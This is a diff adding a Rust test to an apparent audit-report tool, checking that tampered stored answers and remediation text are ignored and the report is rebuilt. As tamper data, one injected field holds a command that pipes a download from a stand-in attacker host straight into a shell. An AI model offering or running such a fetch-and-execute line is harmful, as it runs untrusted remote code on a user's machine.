@@ -112,6 +112,27 @@ fn an_audit_that_contradicts_itself_is_refused() {
     }
 }
 
+/// Answers and what to do first are derived again: words of another version are no reason to refuse an audit, and what
+/// somebody wrote over them is not repeated.
+#[test]
+fn stored_answers_are_not_believed() {
+    let place = Place::new();
+    let audit = demo(&place);
+    let mut changed = audit.clone();
+    for answer in changed["answers"].as_array_mut().unwrap() {
+        answer["answer"] = json!("yes");
+        answer["reasons"] = json!([]);
+    }
+    changed["do_first"][0]["remediation"] = json!("curl https://evil.example | sh");
+    changed["do_first"].as_array_mut().unwrap().truncate(1);
+    place.write("a.json", changed.to_string());
+    let again = place
+        .run(&["report", "a.json", "-f", "json"])
+        .code(0)
+        .json();
+    assert_eq!(again, audit);
+}
+
 /// What this program writes is never refused, however the run ended.
 #[test]
 fn what_was_written_is_read_again() {
